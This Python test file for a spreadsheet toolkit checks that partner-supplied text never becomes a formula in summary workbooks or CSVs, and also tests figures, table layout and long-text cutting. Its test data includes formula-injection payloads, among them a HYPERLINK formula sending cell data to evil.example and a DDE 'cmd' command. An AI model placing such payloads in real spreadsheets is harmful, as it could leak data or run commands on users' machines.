"""The summary workbook and CSVs: no formula made from partner text, ever."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

from tests.helpers import import_paths, orgs, write_filled
from xlsxkit.framework.model import Framework
from xlsxkit.render.csv import write_data
from xlsxkit.render.xlsx import write_summary
from xlsxkit.results.consolidate import consolidate
from xlsxkit.workbook.write import CellValue

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def hostile_return(framework: Framework, path: Path) -> Path:
    answers: dict[tuple[str, str], CellValue] = {}
    texts = iter(HOSTILE * 20)
    for c in framework.criteria:
        answers[(c.id, "stage")] = framework.stages[1].label
        answers[(c.id, "comment")] = next(texts)
        for a in c.actions:
            answers[(a.id, "notes")] = next(texts)
            answers[(a.id, "lead")] = next(texts)
    [org] = orgs("=Evil & Co")
    return write_filled(framework, path, org, answers)


def test_no_formula_anywhere_in_the_summary(framework: Framework, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    hostile_return(framework, inbox / "=cmd.xlsx")
    (inbox / "-rf.csv").write_text("=1+1,@x\n+2,-3\n")
    result = import_paths(framework, inbox)
    summary = consolidate(framework, result)
    out = tmp_path / "summary.xlsx"
    write_summary(summary, out)
    # openpyxl marks a formula cell with data_type "f"; none may exist.
    wb = openpyxl.load_workbook(out)
    seen_hostile = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE:
                    seen_hostile += 1
    assert seen_hostile > 20  # the partner's text is there, as text
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_csvs_neutralise_formula_text(framework: Framework, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    hostile_return(framework, inbox / "x.xlsx")
    summary = consolidate(framework, import_paths(framework, inbox))
    files = write_data(summary, tmp_path / "data")
    checked = 0
    for path in (files.returns, files.stages, files.actions, files.problems):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for field in row:
                assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, field)
                if field.startswith("'") and field[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                    checked += 1
    assert checked > 20
    stages = list(csv.DictReader(io.StringIO(files.stages.read_text(encoding="utf-8-sig"))))
    assert stages[0]["org_name"] == "'=Evil & Co"
    assert stages[0]["stage_index"] == "2"


def test_summary_figures(framework: Framework, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    north, south = orgs("North", "South")
    first = framework.criteria[0]
    a0, a1 = first.actions[0], first.actions[1]
    write_filled(
        framework,
        inbox / "n.xlsx",
        north,
        {(first.id, "stage"): framework.stages[0].label, (a0.id, "done"): True},
    )
    write_filled(
        framework, inbox / "s.xlsx", south, {(first.id, "stage"): framework.stages[2].label}
    )
    summary = consolidate(framework, import_paths(framework, inbox))
    counts = summary.criterion_stages[first.id]
    assert counts == {"not-well-developed": 1, "some-work-done": 0, "well-developed": 1, "": 0}
    assert summary.criterion_stages[framework.criteria[1].id][""] == 2
    assert summary.action_rates[a0.id].done == 1 and summary.action_rates[a0.id].rate == 0.5
    assert summary.actions_done == 1 and summary.actions_possible == 58
    # North is at stage 1 with a0 done, so its next step in that criterion is a1 only.
    steps = [(n.org_id, n.action_id) for n in summary.next_steps() if n.criterion_id == first.id]
    assert ("north", a1.id) in steps and ("north", a0.id) not in steps
    south_steps = {
        n.action_id
        for n in summary.next_steps()
        if n.org_id == "south" and n.criterion_id == first.id
    }
    assert south_steps == {a.id for a in first.actions}
    # Unassessed criteria are listed once, to be assessed first.
    assert sum(1 for n in summary.next_steps() if n.org_id == "north" and not n.action_id) == 5
    people = framework.dimensions[0]
    assert summary.org_dimension_done[("north", people.id)] == 1 / len(people.actions)


def test_data_sheets_are_excel_tables_with_every_row(framework: Framework, tmp_path: Path) -> None:
    from tests.filling import random_answers

    inbox = tmp_path / "in"
    inbox.mkdir()
    for i, org in enumerate(orgs("North", "South", "East")):
        write_filled(framework, inbox / f"{i}.xlsx", org, random_answers(framework, i))
    summary = consolidate(framework, import_paths(framework, inbox))
    out = tmp_path / "s.xlsx"
    write_summary(summary, out)
    wb = openpyxl.load_workbook(out)
    for sheet, name, n, columns in (
        ("Data (stages)", "Stages", 3 * 6, 10),
        ("Data (actions)", "Actions", 3 * 29, 11),
    ):
        ws = wb[sheet]
        table = ws.tables[name]
        assert table.ref == f"A4:{'ABCDEFGHIJKL'[columns - 1]}{4 + n}"
        assert table.autoFilter is not None
        header = [c.value for c in ws[4]][:columns]
        assert header == [c.name for c in table.tableColumns]
        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=5, max_row=4 + n)]
        assert all(r[0] in ("north", "south", "east") for r in rows)
        assert ws.cell(row=5 + n, column=1).value is None
    stages = [[c.value for c in r] for r in wb["Data (stages)"].iter_rows(min_row=5, max_row=10)]
    expected = [
        [
            s.org_id,
            s.org_name,
            s.dimension_id,
            s.criterion_id,
            s.stage_id or None,
            s.stage_label or None,
            s.stage_index,
            s.comment or None,
            s.round or None,
            s.target_stage_id or None,
        ]
        for s in list(summary.stage_rows())[:6]
    ]
    assert stages == expected


# texts longer than an Excel cell -------------------------------------------------------


def test_fit_cell_counts_utf16_and_never_splits_a_surrogate_pair() -> None:
    from xlsxkit.results.cellfit import fit_cell, utf16_units

    for text in ("a" * 40_000, "🙂" * 20_000, "a" + "🙂" * 20_000, "é🙂" * 13_000):
        for limit in (32_767, 1_000, 101):
            cut = fit_cell(text, "in/x.xlsx, sheet 'People' cell F5", limit)
            assert utf16_units(cut) <= limit
            cut.encode("utf-8")  # raises on half a surrogate pair
            head, marker = cut.split(" … [cut: ")
            assert text.startswith(head)
            shown_cut = int(marker.split(" ")[0].replace(",", ""))
            assert shown_cut == len(text) - len(head) > 0
            assert marker.endswith("see in/x.xlsx, sheet 'People' cell F5]")
    assert fit_cell("🙂" * 16_383 + "x", "w") == "🙂" * 16_383 + "x"  # exactly 32,767 units


def test_a_text_over_the_cell_limit_is_cut_visibly_and_listed(
    framework: Framework, tmp_path: Path
) -> None:
    from xlsxkit.framework.model import Answer, Return, ReturnStatus
    from xlsxkit.inbound.resolve import ImportResult
    from xlsxkit.results.cellfit import utf16_units

    c = framework.criteria[0]
    a = c.actions[0]
    evidence = "🙂 evidence " * 4_000  # 48,000 UTF-16 units
    notes = "n" * 40_000
    r = Return(
        source="in/north.xlsx",
        status=ReturnStatus.ACCEPTED,
        org_id="north",
        org_name="North",
        answers=(
            Answer(
                item_id=c.id,
                sheet="People",
                row=7,
                stage_id=framework.stages[0].id,
                comment=evidence,
            ),
            Answer(item_id=a.id, sheet="People", row=9, done=False, notes=notes),
        ),
    )
    summary = consolidate(framework, ImportResult(returns=(r,), missing=(), expected=None))
    out = tmp_path / "s.xlsx"
    write_summary(summary, out)
    files = write_data(summary, tmp_path / "data")
    wb = openpyxl.load_workbook(out)
    marker_evidence = "see in/north.xlsx, sheet 'People' cell F7]"
    marker_notes = "see in/north.xlsx, sheet 'People' cell F9]"
    found = {"Comments": 0, "Next steps": 0, "Data (stages)": 0, "Data (actions)": 0}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and len(cell.value) > 10_000:
                    assert utf16_units(cell.value) <= 32_767, (ws.title, cell.coordinate)
                    assert cell.value.endswith((marker_evidence, marker_notes)), ws.title
                    assert " … [cut: " in cell.value
                    found[ws.title] = found.get(ws.title, 0) + 1
    assert found == {"Comments": 2, "Next steps": 1, "Data (stages)": 1, "Data (actions)": 1}
    problems = [[cell.value for cell in row] for row in wb["Problems"].iter_rows(min_row=5)]
    cuts = [p for p in problems if p[3] == "summary-text-cut"]
    assert [(p[0], p[4], p[5]) for p in cuts] == [
        ("in/north.xlsx", "People", "F7"),
        ("in/north.xlsx", "People", "F9"),
    ]
    # The CSVs have no cell limit: they keep every character.
    stages = list(csv.DictReader(io.StringIO(files.stages.read_text(encoding="utf-8-sig"))))
    assert stages[0]["comment"] == evidence
    actions = list(csv.DictReader(io.StringIO(files.actions.read_text(encoding="utf-8-sig"))))
    assert actions[0]["notes"] == notes


def test_a_comment_of_several_lines_gets_a_row_tall_enough_in_the_data_sheet(
    framework: Framework, tmp_path: Path
) -> None:
    """Printed, a two-line comment in a one-line row runs over the row above; its row is
    made taller and the text wraps from the top, while one-line rows keep the default."""
    inbox = tmp_path / "in"
    inbox.mkdir()
    [first, second] = framework.criteria[:2]
    answers: dict[tuple[str, str], CellValue] = {
        (c.id, "stage"): framework.stages[1].label for c in framework.criteria
    }
    answers[(first.id, "comment")] = "Line one of our evidence\nline two\nand a third"
    answers[(second.id, "comment")] = "One line only"
    [org] = orgs("North")
    write_filled(framework, inbox / "north.xlsx", org, answers)
    out = tmp_path / "s.xlsx"
    write_summary(consolidate(framework, import_paths(framework, inbox)), out)
    ws = openpyxl.load_workbook(out)["Data (stages)"]
    rows = {r[3].value: r for r in ws.iter_rows(min_row=5, max_row=4 + len(framework.criteria))}
    tall, short = rows[first.id], rows[second.id]
    assert tall[7].value == "Line one of our evidence\nline two\nand a third"
    assert tall[7].alignment.wrap_text and tall[7].alignment.vertical == "top"
    assert ws.row_dimensions[tall[7].row].height >= 45
    assert ws.row_dimensions[short[7].row].height is None
    assert not short[7].alignment.wrap_text
